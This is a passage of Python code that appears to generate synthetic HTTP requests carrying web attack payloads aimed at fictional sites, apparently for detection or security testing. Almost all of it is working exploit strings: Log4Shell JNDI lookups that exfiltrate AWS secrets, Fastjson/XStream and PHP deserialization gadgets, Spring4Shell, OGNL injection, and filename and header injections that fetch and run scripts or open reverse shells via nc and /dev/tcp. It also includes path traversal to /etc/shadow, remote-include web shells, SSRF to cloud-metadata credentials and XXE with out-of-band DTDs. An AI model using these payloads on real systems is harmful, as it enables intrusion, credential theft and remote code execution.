        "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//%s/a}" % ATK,
        "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.%s}" % ATK,
        "${jndi:ldap://${sys:java.version}.${hostName}.%s/a}" % ATK,
        "${${upper:j}ndi:${upper:l}${upper:d}ap://%s/z}" % ATK,
        "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://%s/k}" % ATK,
        "${jndi:rmi://%s:1099/Exploit}" % ATK,
        "${${lower:jnd}${lower:i}:${lower:ldap}://%s/l}" % ATK,
        "${jndi:ldap://127.0.0.1#%s:1389/a}" % ATK,
        "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://%s/d}" % ATK,
        "${jndi:ldaps://%s/s}" % ATK,
        "${${::-j}ndi:iiop://%s/i}" % ATK,
        "${jndi:${lower:d}n${lower:s}://${env:USER}.%s}" % ATK,
        "${jndi:ldap://%s/${base64:JHtlbnY6QVdTX0FDQ0VTU19LRVlfSUR9}}" % ATK,
    ]
    for i, p in enumerate(jndi):
        r = i % 8
        if r == 0:
            a_header(c, J, ["User-Agent", "X-Api-Version", "Referer"][i // 8 % 3], p, v=i)
        elif r == 1:
            a_comment(c, J, p, v=i, field=["body", "name"][i // 8 % 2])
        elif r == 2:
            a_mail(c, J, p, field=["subject", "from"][i // 8 % 2], v=i)
        elif r == 3:
            a_ical(c, J, p, prop=["SUMMARY", "FN"][i // 8 % 2], v=i)
        elif r == 4:
            a_csv(c, J, p, v=i, col=1)
        elif r == 5:
            a_filename(c, J, p + ".pdf", v=i)
        elif r == 6:
            a_query(c, J, "wiki.northwind-labs.com", "/dosearchsite.action?queryString=" + q(p))
        else:
            a_editor_json(c, J, p, ["quill-text", "pm-text"][i // 8 % 2])
    a_markdown(c, J, "Stack trace below, happens when title is `%s`" % jndi[0], v=1)
    a_header(c, J, "X-Forwarded-For", jndi[3], v=2)
    # JNDI / gadget payloads in JSON document imports (Jackson / Fastjson polymorphic typing)
    a_editor_json(c, J, {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://%s:1099/Exploit" % ATK, "autoCommit": True}, "raw")
    a_editor_json(c, J, {"title": "Imported page", "blocks": ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://%s:1389/Exploit" % ATK, "autoCommit": True}]}, "raw")
    a_editor_json(c, J, {"content": {"@type": "java.lang.AutoCloseable", "@type": "org.apache.commons.io.input.BOMInputStream"}, "a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                         "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://%s:1389/Fastjson" % ATK, "autoCommit": True}}, "raw")
    # XStream XML import of a page tree
    a_upload(c, J, "<sorted-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n    <handler class=\"java.beans.EventHandler\">\n      <target class=\"java.lang.ProcessBuilder\">\n        <command>\n          <string>/bin/sh</string><string>-c</string><string>curl http://%s/x | sh</string>\n        </command>\n      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>\n" % ATK,
             "space-export.xml", "application/xml", v=0)
    # Confluence OGNL (CVE-2022-26134) in the page path
    a_query(c, J, "wiki.northwind-labs.com", "/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/")
    # Struts OGNL in a comment form field name/value
    c.form_post("comment", J, "intranet.stmarys-school.ie", "/news/comment.action",
                [("comment", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"), ("newsId", "812")])
    # Spring4Shell through a profile form
    c.form_post("comment", J, "app.clearpath-tasks.com", "/profile/update",
                [("displayName", "Dana"), ("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ java.io.InputStream in = %{c1}i.getRuntime().exec(request.getParameter(\"cmd\")).getInputStream(); }"),
                 ("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"), ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"),
                 ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar"), ("class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat", "")])


def atk_rce(c):
    R = "rce"
    names = ["photo.jpg; curl http://%s/s.sh | sh" % ATK, "$(id).png", "`whoami`.pdf", "report.pdf && wget http://%s/x -O /tmp/x && chmod +x /tmp/x && /tmp/x" % ATK,
             "a.jpg|nc %s 4444 -e /bin/sh" % ATK, "x;bash -i >& /dev/tcp/%s/4444 0>&1;.png" % ATK, "image$(curl${IFS}%s/p|sh).gif" % ATK, "doc.docx & powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQAvAHMALgBwAHMAMQApAA==",
             "x.png\n/bin/sh -c 'id > /tmp/pwn'"]
    for i, n in enumerate(names):
        a_filename(c, R, n, v=i)
    # ImageTragick (CVE-2016-3714) MVG and Ghostscript (CVE-2018-16509) uploads
    a_upload(c, R, "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/image.jpg\"|curl -s http://%s/s.sh | bash\")'\npop graphic-context\n" % ATK, "avatar.jpg", "image/jpeg", v=2)
    a_upload(c, R, "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'ephemeral:/var/www/html/index.php'\npop graphic-context\n", "banner.png", "image/png", v=3)
    a_upload(c, R, "%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\n{ legal } stopped { pop } if\nrestore\nmark /OutputFile (%pipe%id > /tmp/pwned) currentdevice putdeviceprops\n", "cover.eps", "application/postscript", v=2)
    a_upload(c, R, "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: -0 -0 100 100\n/size_from  10000      def\n/size_step    500      def\n(%pipe%curl http://" + ATK + "/s | sh) (w) file\nshowpage\n", "diagram.eps", "image/x-eps", v=0)
    # LaTeX rendered server side (math posts, homework, online TeX editors)
    for i, p in enumerate(["<latex>\\immediate\\write18{curl http://%s/s.sh | sh}</latex>" % ATK, "\\immediate\\write18{id > /tmp/out}\\input{/tmp/out}",
                           "$\\def\\x{\\immediate\\write18}\\x{wget http://%s/x -O /tmp/x}$" % ATK]):
        if i == 0:  # DokuWiki latex plugin renders <latex> blocks with the server's TeX
            c.form_post("markdown", R, "wiki.pinecrest.dev", "/doku.php?id=physics:notes",
                        [("sectok", rand_hex(c.rng, 32)), ("id", "physics:notes"), ("rev", "0"), ("date", "1718012345"), ("prefix", "."), ("suffix", ""),
                         ("wikitext", "====== Lecture notes ======\n\nThe energy is given by\n\n" + p + "\n\nSee also [[physics:units]]."), ("do[save]", "Save"), ("summary", "formula")])
        elif i == 1:
            c.json_req("editor-json", R, "POST", "tex.unilab-physics.edu", "/project/%s/doc/%s" % (rand_hex(c.rng, 24), rand_hex(c.rng, 24)),
                       {"lines": ["\\documentclass{article}", "\\begin{document}", p, "\\end{document}"], "version": 17})
        else:
            c.json_req("comment", R, "POST", "learn.unilab-physics.edu", "/api/latex/render", {"latex": "Try this: " + p, "format": "png", "dpi": 150})
    # sendmail argument injection through the From of a contact form (PHPMailer CVE-2016-10033)
    a_mail(c, R, "\"attacker\\\" -oQ/tmp/ -X/var/www/html/shell.php  some\"@email.com", field="form-email", v=0)
    a_mail(c, R, "\"a\\\" -OQueueDirectory=/tmp -X/var/www/html/x.php\"@evil.example", field="form-email", v=1)
    # Shellshock in a header stored by a CGI comment handler
    a_header(c, R, "User-Agent", "() { :; }; /bin/bash -c 'curl http://%s/s | sh'" % ATK, v=0)
    a_header(c, R, "Referer", "() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd", v=2)
    # commands in fields that back ends hand to a shell (converters, ping/dig link checkers, git import)
    a_query(c, R, "cms.lighthouse-press.org", "/api/link-check?url=" + q("https://example.com;cat /etc/passwd"))
    a_query(c, R, "files.cloudbox-drive.com", "/api/v2/convert?file=" + q("report.docx") + "&format=" + q("pdf|id"))
    a_query(c, R, "www.rivertown-gazette.com", "/search?q=" + q("foo'; cat /etc/passwd; echo '"))
    c.json_req("editor-json", R, "POST", "docs.tessellate.so", "/api/import/git", {"repo": "ext::sh -c touch% /tmp/pwned", "branch": "main", "path": "docs/"})
    c.json_req("editor-json", R, "POST", "docs.tessellate.so", "/api/import/git", {"repo": "https://github.com/acme/widgets.git", "branch": "--upload-pack=touch /tmp/pwned", "path": "docs/"})
    c.json_req("comment", R, "POST", "learn.unilab-physics.edu", "/api/calc", {"expression": "__import__('os').popen('id').read()", "precision": 4})
    c.json_req("csv", R, "POST", "sheets.gridwise.app", "/api/sheets/77/cells", {"changes": [{"row": 3, "col": 2, "old": None, "new": "=require('child_process').execSync('id').toString()"}], "revision": 41})
    a_ical(c, R, "$(curl http://%s/c.sh|sh)" % ATK, prop="ATTACH", v=0)
    a_comment(c, R, "; /usr/bin/curl http://%s/x.sh | /bin/sh #" % ATK, v=5, field="url")
    a_csv(c, R, "|| ping -c 21 127.0.0.1 ||", v=3, col=0)
    a_mail(c, R, "support@tidewater-outfitters.com; curl http://%s/s|sh" % ATK, field="to", v=1)
    a_editor_json(c, R, "${@system('id')}", "pm-text")


def atk_lfi(c):
    L_ = "lfi"
    for i, n in enumerate(["../../../../../../etc/passwd", "..\\..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "../../../../var/www/html/shell.php",
                           "../../../../../../proc/self/environ", "..%2f..%2f..%2f..%2fetc%2fshadow", "../../.ssh/authorized_keys"]):
        a_filename(c, L_, n, v=i)
    for host, uri in [
        ("tidewater.freshdesk.com", "/attachments/download?file=" + q("../../../../etc/passwd")),
        ("cms.lighthouse-press.org", "/media/thumb?path=..%2F..%2F..%2Fconfig%2Fdatabase.yml"),
        ("files.cloudbox-drive.com", "/api/v2/preview?img=" + q("....//....//....//etc/passwd")),
        ("community.saltmarsh.org", "/uploads/short-url/%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
        ("blog.fernhill-studio.com", "/wp-content/plugins/gallery/download.php?f=" + "..%c0%af..%c0%af..%c0%afetc/passwd"),
        ("kb.brightlane.co", "/export?template=" + q("php://filter/convert.base64-encode/resource=../config.php")),
        ("chat.teamharbor.io", "/files/get?name=" + q("../../../../etc/passwd\x00.jpg")),
        ("wiki.northwind-labs.com", "/download/attachments/98765/" + "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ]:
        a_query(c, L_, host, uri)
    # HTML rendered to PDF server side (wkhtmltopdf / WeasyPrint / headless Chrome exports)
    for i, p in enumerate(['<iframe src="file:///etc/passwd" width="800" height="600"></iframe>', '<img src="file:///etc/shadow" alt="x">',
                           '<link rel="attachment" href="file:///etc/passwd">', '<embed src="file:///c:/windows/win.ini" width="600" height="400">',
                           '<script>x=new XMLHttpRequest;x.onload=function(){document.write(this.responseText)};x.open("GET","file:///etc/passwd");x.send();</script>',
                           '<ac:image><ri:attachment ri:filename="../../../../../etc/passwd" /></ac:image>']):
        a_editor_html(c, L_, p, v=[0, 1, 6, 3, 2, 5][i])
    a_svg(c, L_, '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600"><image xlink:href="file:///etc/passwd" width="800" height="600"/></svg>', v=1)
    a_svg(c, L_, '<svg xmlns="http://www.w3.org/2000/svg" width="400" height="400"><image href="text:/etc/passwd" width="400" height="400"/></svg>', v=2)
    a_markdown(c, L_, "$$\\input{/etc/passwd}$$", v=2)
    a_markdown(c, L_, "\\lstinputlisting{/etc/passwd}", v=0)
    c.json_req("editor-json", L_, "POST", "tex.unilab-physics.edu", "/project/%s/doc/%s" % (rand_hex(c.rng, 24), rand_hex(c.rng, 24)),
               {"lines": ["\\documentclass{article}", "\\usepackage{verbatim}", "\\begin{document}", "\\verbatiminput{/etc/passwd}", "\\end{document}"], "version": 5})
    a_markdown(c, L_, "{% include_relative ../../../../../etc/passwd %}", v=4)
    a_editor_json(c, L_, "../../../../../../etc/passwd", "ejs-image")
    a_editor_json(c, L_, "file:///etc/passwd", "notion-image")
    a_upload(c, L_, "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:http://%s/header.m3u8|file:///etc/passwd\n#EXT-X-ENDLIST\n" % ATK, "clip.avi", "video/x-msvideo", v=3)
    a_ical(c, L_, "file:///etc/passwd", prop="PHOTO", v=0)
    a_ical(c, L_, "file:///etc/passwd", prop="ATTACH", v=1)
    a_mail(c, L_, '<img src="file:///etc/passwd">', field="html", v=0)


def atk_rfi(c):
    F = "rfi"
    for host, uri in [
        ("blog.fernhill-studio.com", "/index.php?template=" + q("http://%s/shell.txt?" % ATK)),
        ("forum.vintage-radio.club", "/viewpage.php?page=" + q("https://%s/s.txt" % ATK) + "%00"),
        ("intranet.stmarys-school.ie", "/news/show.php?lang=" + q("ftp://%s/x.php" % ATK)),
        ("kb.brightlane.co", "/render.php?view=" + q("\\\\%s\\share\\shell.php" % ATK)),
        ("recipes.hearthside.kitchen", "/print.php?inc=" + q("data://text/plain;base64," + b64("<?php system($_GET['c']); ?>"))),
        ("www.rivertown-gazette.com", "/index.php?theme=" + q("http://%s/theme/header.php?" % ATK) + "&p=4512"),
        ("cms.lighthouse-press.org", "/modules/embed.php?src=" + q("https://%s/payload.php" % ATK)),
    ]:
        a_query(c, F, host, uri)
    c.add("query", F, "POST", "forum.vintage-radio.club", "/viewpage.php?page=php://input", "application/x-www-form-urlencoded", "<?php system('id'); ?>", accept=ACCEPT_HTML)
    a_editor_json(c, F, {"title": "Imported page", "template": "http://%s/shell.txt?" % ATK, "blocks": []}, "raw")
    a_editor_html(c, F, "[includeme file=\"http://%s/shell.txt\"]" % ATK, v=4)
    c.form_post("comment", F, "www.greenleaf-ngo.org", "/wp-admin/admin-ajax.php",
                [("action", "import_content"), ("import_url", "http://%s/payload.php" % ATK), ("include_path", "http://%s/" % ATK)])
    a_markdown(c, F, "{%% include http://%s/shell.txt %%}" % ATK, v=3)


def atk_php(c):
    P = "php"
    laravel = PhpObj("Illuminate\\Broadcasting\\PendingBroadcast", [("events", "*", PhpObj("Faker\\Generator", [("formatters", "*", {"dispatch": "system"})])), ("event", "*", "id")])
    monolog_inner = PhpObj("Monolog\\Handler\\BufferHandler", [("handler", "*", None), ("bufferSize", "*", -1), ("buffer", "*", [["curl http://%s/s|sh" % ATK, "level", None]]),
                                                               ("level", "*", None), ("initialized", "*", True), ("bufferLimit", "*", -1), ("processors", "*", ["current", "system"])])
    monolog = PhpObj("Monolog\\Handler\\SyslogUdpHandler", [("socket", "*", monolog_inner)])
    guzzle = PhpObj("GuzzleHttp\\Cookie\\FileCookieJar", [("filename", "GuzzleHttp\\Cookie\\FileCookieJar", "/var/www/html/shell.php"),
                                                          ("storeSessionCookies", "GuzzleHttp\\Cookie\\FileCookieJar", True),
                                                          ("cookies", "GuzzleHttp\\Cookie\\CookieJar", [PhpObj("GuzzleHttp\\Cookie\\SetCookie", [("data", "GuzzleHttp\\Cookie\\SetCookie", {"Expires": 1, "Discard": False, "Value": "<?php system($_GET['c']); ?>"})])]),
                                                          ("strictMode", "GuzzleHttp\\Cookie\\CookieJar", None)])
    wp = {"title": "Draft", "blocks": [PhpObj("WP_HTML_Token", [("bookmark_name", "", "id"), ("node_name", "", "p"), ("on_destroy", "", "system")])]}
    sers = [php_ser(laravel), php_ser(monolog), php_ser(guzzle), php_ser(wp), php_ser(PhpObj("Illuminate\\Broadcasting\\PendingBroadcast", [("events", "*", PhpObj("Faker\\Generator", [("formatters", "*", {"dispatch": "system"})])), ("event", "*", "curl http://%s/s|sh" % ATK)]))]
    rng = c.rng
    c.form_post("editor-html", P, "blog.fernhill-studio.com", "/wp-admin/admin-ajax.php",
                [("action", "autosave_draft"), ("post_id", "812"), ("_ajax_nonce", rand_hex(rng, 10)), ("draft", sers[0])], accept=ACCEPT_JSON)
    c.json_req("editor-json", P, "POST", "cms.lighthouse-press.org", "/api/articles/812/autosave", {"title": "Spring fair recap", "serialized_state": sers[1], "ts": 1718012345})
    c.form_post("comment", P, "forum.vintage-radio.club", "/thread/1187/reply", [("csrf_token", rand_token(rng, 40)), ("message", "Great thread!"), ("quote_data", sers[2]), ("submit", "Post reply")])
    c.json_req("editor-json", P, "PUT", "portal.brightlane.co", "/api/v1/posts/77/draft", {"draft": sers[3]})
    a_csv(c, P, sers[4], v=0, col=5)
    c.form_post("comment", P, "www.rivertown-gazette.com", "/comments/restore", [("draft", sers[1])],
                extra=[("Cookie", "comment_draft=" + q(php_ser(laravel)))])
    c.get("header", P, "blog.fernhill-studio.com", "/2024/06/spring-fair-recap/", extra=[("Cookie", "wp_autosave=" + b64(sers[1]) + "; wordpress_test_cookie=WP+Cookie+check")])
    # phar:// deserialization through image paths
    a_editor_json(c, P, "phar://./wp-content/uploads/2024/06/avatar.jpg/test.txt", "ejs-image")
    a_query(c, P, "cms.lighthouse-press.org", "/media/thumb?path=" + q("phar:///var/www/html/uploads/2024/06/avatar.gif/x"))
    a_editor_html(c, P, '<img src="phar://../uploads/profile/1187.jpg" alt="profile">', v=1)
    # PHP code in uploads
    rngb = random.Random(99)
    c.upload("upload", P, "community.saltmarsh.org", "/uploads.json?client_id=%s" % rand_hex(rng, 32),
             [("type", "avatar"), ("file", jpeg_bytes(rngb, b"<?php system($_GET['cmd']); ?>"), "avatar.php.jpg", "image/jpeg")])
    a_upload(c, P, "GIF89a;\n<?php system($_GET['c']); ?>\n", "avatar.phtml", "image/gif", v=2)
    a_upload(c, P, "AddType application/x-httpd-php .jpg\n", ".htaccess", "text/plain", v=0)
    a_upload(c, P, "<?= `$_GET[0]` ?>", "thumb.php5", "image/png", v=3)
    a_editor_html(c, P, "[insert_php] system($_GET['cmd']); [/insert_php]", v=0)
    a_editor_html(c, P, "<?php @eval($_POST['x']); ?>", v=4)
    a_filename(c, P, "shell.php%00.jpg", v=0)
    c.form_post("markdown", P, "wiki.pinecrest.dev", "/doku.php?id=start",
                [("sectok", rand_hex(rng, 32)), ("id", "start"), ("rev", "0"), ("date", "1718012345"), ("prefix", "."), ("suffix", ""), ("changecheck", rand_hex(rng, 32)), ("target", "section"),
                 ("wikitext", "====== Start ======\n\nWelcome to the team wiki.\n\n<php>system($_GET['cmd']);</php>\n"), ("do[save]", "Save"), ("summary", "typo")])


def atk_ssrf(c):
    S = "ssrf"
    targets = [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
        "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
        "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
        "http://2852039166/latest/meta-data/",
        "http://0xA9FEA9FE/latest/user-data",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://127.0.0.1:6379/",
        "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20bash%20-i%0A%0A%0D%0A",
        "http://localhost:8500/v1/agent/self",
        "http://127.0.0.1:2375/containers/json",
        "http://[::1]/server-status",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://0/admin/",
        "http://127.1:8080/actuator/env",
        "dict://127.0.0.1:11211/stats",
        "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
        "http://169.254.170.2/v2/credentials/",
        "http://%s@169.254.169.254/latest/meta-data/" % ATK,
        "http://localhost:9200/_cat/indices?v",
        "http://192.168.0.1/cgi-bin/config.exp",
        "http://10.0.0.5:8080/manager/html",
        "http://instance-data/latest/meta-data/",
        "http://0x7f000001:8983/solr/admin/cores?action=STATUS",
        "http://169.254.169.254/computeMetadata/v1beta1/instance/attributes/kube-env?alt=json",
        "http://017700000001/",
    ]
    for i, t in enumerate(targets):
        r = i % 10
        rng = c.rng
        if r == 0:
            a_query(c, S, "cms.lighthouse-press.org", "/api/oembed?url=" + q(t) + "&format=json&maxwidth=640")
        elif r == 1:
            a_editor_html(c, S, '<p><img src="%s" alt="chart" width="600"></p>' % esca(t), v=i)
        elif r == 2:
            a_editor_json(c, S, t, ["quill-image", "ejs-image", "notion-image", "pm-image", "draft-img"][i // 10 % 5])
        elif r == 3:
            a_markdown(c, S, "![diagram](%s)" % t, v=i)
        elif r == 4:
            c.json_req("comment", S, "POST", "chat.teamharbor.io", "/api/v4/opengraph", {"url": t})
        elif r == 5:
            if i // 10 % 2 == 0:
                a_comment(c, S, t, v=5, field="url")
            else:
                c.json_req("comment", S, "PUT", "app.clearpath-tasks.com", "/api/me/avatar", {"imageUrl": t})
        elif r == 6:
            c.json_req("csv", S, "POST", "sheets.gridwise.app", "/api/workbooks/import-url", {"source_url": t, "format": "csv", "sheet": "Imported"})
        elif r == 7:
            a_ical(c, S, t, prop=["PHOTO", "URL", "PHOTO"][i // 10 % 3], v=i)
        elif r == 8:
            a_svg(c, S, '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="200"><image xlink:href="%s" width="300" height="200"/></svg>' % esca(t), v=i)
        else:
            a_query(c, S, "kb.brightlane.co", "/api/link-preview?url=" + q(t))
    c.json_req("comment", S, "POST", "cal.clearpath-tasks.com", "/api/calendars/subscribe", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "name": "Holidays"})
    c.json_req("comment", S, "POST", "app.clearpath-tasks.com", "/api/integrations/webhooks", {"url": "http://127.0.0.1:8001/api/v1/namespaces/default/pods", "events": ["comment.created"]})
    a_mail(c, S, '<img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/" width="1" height="1">', field="html", v=0)
    c.add("comment", S, "POST", "blog.fernhill-studio.com", "/xmlrpc.php", "text/xml",
          "<?xml version=\"1.0\"?>\n<methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://127.0.0.1:22/</string></value></param><param><value><string>https://blog.fernhill-studio.com/2024/06/spring-fair-recap/</string></value></param></params></methodCall>",
          accept="*/*", ua="Mozilla/5.0 (compatible; pingback)", origin=False)


def atk_xxe(c):
    X = "xxe"
    svg_file = '<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600"><text x="10" y="20" font-size="12">&xxe;</text></svg>'
    svg_oob = '<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY % remote SYSTEM "http://' + ATK + '/evil.dtd"> %remote; %init; %trick; ]>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
    svg_php = '<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php"> ]>\n<svg xmlns="http://www.w3.org/2000/svg"><text y="20">&x;</text></svg>'
    svg_xinc = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude" width="600" height="400"><text y="20"><xi:include parse="text" href="file:///etc/hostname"/></text></svg>'
    for i, s in enumerate([svg_file, svg_oob, svg_php, svg_xinc]):
        a_svg(c, X, s, v=i)
    xliff = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE xliff [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2">\n'
             ' <file source-language="en" target-language="de" datatype="plaintext" original="messages">\n  <body>\n   <trans-unit id="checkout.button"><source>Checkout</source><target>&xxe;</target></trans-unit>\n  </body>\n </file>\n</xliff>\n')
    xliff_xinc = ('<?xml version="1.0" encoding="UTF-8"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:1.2" xmlns:xi="http://www.w3.org/2001/XInclude">\n <file source-language="en" target-language="fr" datatype="plaintext" original="app">\n'
                  '  <body><trans-unit id="greeting"><source>Hello</source><target><xi:include parse="text" href="file:///etc/passwd"/></target></trans-unit></body>\n </file>\n</xliff>\n')
    xliff_meta = ('<?xml version="1.0"?>\n<!DOCTYPE xliff [ <!ENTITY meta SYSTEM "http://169.254.169.254/latest/meta-data/iam/security-credentials/"> ]>\n<xliff version="2.0" xmlns="urn:oasis:names:tc:xliff:document:2.0" srcLang="en" trgLang="ja">\n'
                  ' <file id="f1"><unit id="u1"><segment><source>Save</source><target>&meta;</target></segment></unit></file>\n</xliff>\n')
    rss = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">\n<channel>\n<title>Saltmarsh Podcast</title>\n<link>https://saltmarsh.org/podcast</link>\n'
           '<description>Episodes about the coast</description>\n<item><title>Episode 12: Kelp</title><description>&xxe;</description><enclosure url="https://cdn.saltmarsh.org/ep12.mp3" length="3012345" type="audio/mpeg"/></item>\n</channel>\n</rss>\n')
    lol = ('<?xml version="1.0"?>\n<!DOCTYPE rss [\n <!ENTITY lol "lol">\n <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">\n <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">\n'
           ' <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">\n <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">\n'
           ' <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">\n <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">\n'
           ' <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">\n <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">\n'
           ' <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">\n]>\n<rss version="2.0"><channel><title>&lol9;</title></channel></rss>\n')
    opml = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE opml [ <!ENTITY % dtd SYSTEM "http://' + ATK + '/opml.dtd"> %dtd; ]>\n<opml version="2.0"><head><title>My feeds</title></head>\n'
            '<body><outline text="News" title="News"><outline type="rss" text="Rivertown Gazette" xmlUrl="https://www.rivertown-gazette.com/feed"/></outline></body></opml>\n')
    xcal = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE icalendar [ <!ENTITY xxe SYSTEM "file:///etc/shadow"> ]>\n<icalendar xmlns="urn:ietf:params:xml:ns:icalendar-2.0"><vcalendar><properties><prodid><text>-//Example//EN</text></prodid><version><text>2.0</text></version></properties>\n'
            '<components><vevent><properties><dtstart><date-time>2024-07-12T09:00:00Z</date-time></dtstart><summary><text>&xxe;</text></summary><uid><text>4088E990AD89CB3DBB484909</text></uid></properties></vevent></components></vcalendar></icalendar>\n')
    excel = ('<?xml version="1.0"?>\n<!DOCTYPE Workbook [ <!ENTITY xxe SYSTEM "file:///c:/windows/win.ini"> ]>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">\n'
             ' <Worksheet ss:Name="Budget"><Table><Row><Cell><Data ss:Type="String">Q1</Data></Cell><Cell><Data ss:Type="String">&xxe;</Data></Cell></Row></Table></Worksheet>\n</Workbook>\n')
    word = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE w:document [ <!ENTITY % ext SYSTEM "http://' + ATK + '/x.dtd"> %ext; ]>\n<?mso-application progid="Word.Document"?>\n'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Minutes of the board meeting</w:t></w:r></w:p></w:body></w:document>\n')
    fodt = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE office:document [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>\n<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">\n'
            '<office:body><office:text><text:p>&xxe;</text:p></office:text></office:body></office:document>\n')
    sitemap = '<?xml version="1.0"?>\n<!DOCTYPE urlset SYSTEM "http://' + ATK + '/sitemap.dtd">\n<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://blog.fernhill-studio.com/</loc></url></urlset>\n'
